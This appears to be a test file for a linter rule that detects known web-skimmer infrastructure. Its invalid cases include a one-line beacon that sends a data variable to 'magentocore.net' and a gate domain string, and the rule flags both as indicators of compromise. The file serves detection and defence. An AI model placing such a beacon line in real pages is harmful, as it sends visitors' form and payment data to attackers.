import rule from './known-skimmer-infrastructure.js';
import { ruleTable } from '../test/helpers/rule-table.js';

ruleTable(rule, {
  valid: [
    "var u = 'https://cdn.example/lib.js';",
    "var host = 'example.org';",
  ],
  invalid: [
    { code: "new Image().src = 'https://magentocore.net/p?d=' + data;", messageIds: ['ioc'], severity: 'critical' },
    { code: "var gate = 'baways.com';", messageIds: ['ioc'] },
  ],
});
